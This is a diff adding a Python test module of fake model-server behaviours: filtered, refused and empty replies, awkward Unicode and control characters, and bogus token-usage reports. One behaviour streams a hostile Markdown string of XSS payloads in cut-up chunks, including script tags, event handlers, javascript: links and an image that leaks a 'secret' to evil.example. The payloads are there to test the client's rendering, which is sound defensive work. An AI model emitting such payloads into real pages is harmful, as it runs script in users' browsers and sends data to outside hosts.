@@ -1,0 +1,113 @@
+"""The models that keep to the protocol and say something odd in it: about the end, the text or the usage."""
+
+from dev.model_server import answering
+from dev.model_server.call import Call, Usage
+from dev.model_server.slow import write_some
+
+HUGE_TOKENS = 10**12
+
+ODD_TEXT = (
+    "A NUL \x00 and a lone surrogate \ud800, right to left \u202eabc\u202c and \u05e9\u05dc\u05d5\u05dd, "
+    "isolates \u2066x\u2069, a zero width\u200bspace, ANSI \x1b[31mred\x1b[0m, a bell \x07, "
+    "a line\u2028separator and a family \U0001f469\u200d\U0001f469\u200d\U0001f467.\n"
+)
+
+HOSTILE_MARKDOWN = """\
+# Hostile <script>alert("heading")</script>
+
+<script>alert("block")</script>
+
+<img src="x" onerror="alert('image')"> <svg onload="alert('svg')"></svg> <iframe src="https://evil.example/"></iframe>
+
+[script](javascript:alert('link')) [mixed](JaVaScRiPt:alert(1)) [entity](&#106;avascript:alert(1))
+[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert(1)> [plain](https://example.com/ok)
+
+![remote](https://evil.example/pixel.png?leak=secret) ![data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
+
+<div hx-get="/billing/" hx-trigger="load" onclick="alert(1)" style="position:fixed;inset:0">overlay</div>
+
+````markdown
+```html
+<script>alert("nested fence")</script>
+```
+````
+
+| <b onmouseover=alert(1)>cell</b> | `</td><script>alert(1)</script>` |
+| --- | --- |
+| [x]: javascript:alert(1) | <style>body { display: none }</style> |
+
+</div></main></body></html>
+
+data: {"choices": [{"delta": {"content": "not an event"}}]}
+
+```
+<script>alert("a fence that never closes")</script>
+"""
+
+
+async def content_filter(call: Call) -> None:
+    """Stop in the middle, as a filter does."""
+    await write_some(call)
+    await call.finish("content_filter")
+
+
+async def refusal(call: Call) -> None:
+    """Decline in the field made for it."""
+    await call.write_refusal("I'm sorry, ")
+    await call.write_refusal("but I can't help with that.")
+    await call.finish()
+
+
+async def empty(call: Call) -> None:
+    """Succeed without a word."""
+    await call.finish()
+
+
+async def nul(call: Call) -> None:
+    """Write characters that databases, terminals and layouts stumble over."""
+    await call.write(ODD_TEXT)
+    await call.finish()
+
+
+async def hostile(call: Call) -> None:
+    """Write Markdown that attacks the page it is shown on, in pieces that cut its tags apart."""
+    await call.write_all(HOSTILE_MARKDOWN[start : start + 7] for start in range(0, len(HOSTILE_MARKDOWN), 7))
+    await call.finish()
+
+
+async def no_usage(call: Call) -> None:
+    """Report no usage, even if asked."""
+    call.report_usage = lambda usage: None
+    await answering.demo_fast(call)
+
+
+async def usage_zero(call: Call) -> None:
+    """Report no tokens."""
+    await _answer_with_usage(call, given=0, written=0)
+
+
+async def usage_huge(call: Call) -> None:
+    """Report more tokens than anybody can pay."""
+    await _answer_with_usage(call, given=HUGE_TOKENS, written=HUGE_TOKENS)
+
+
+async def usage_negative(call: Call) -> None:
+    """Report fewer than no tokens."""
+    await _answer_with_usage(call, given=-5, written=-5)
+
+
+async def usage_mismatch(call: Call) -> None:
+    """Report twice the truth."""
+    call.report_usage = lambda usage: _usage(
+        usage, given=2 * usage["prompt_tokens"], written=2 * usage["completion_tokens"]
+    )
+    await answering.demo_fast(call)
+
+
+async def _answer_with_usage(call: Call, *, given: int, written: int) -> None:
+    call.report_usage = lambda usage: _usage(usage, given=given, written=written)
+    await answering.demo_fast(call)
+
+
+def _usage(usage: Usage, *, given: int, written: int) -> Usage:
+    return {**usage, "prompt_tokens": given, "completion_tokens": written, "total_tokens": given + written}
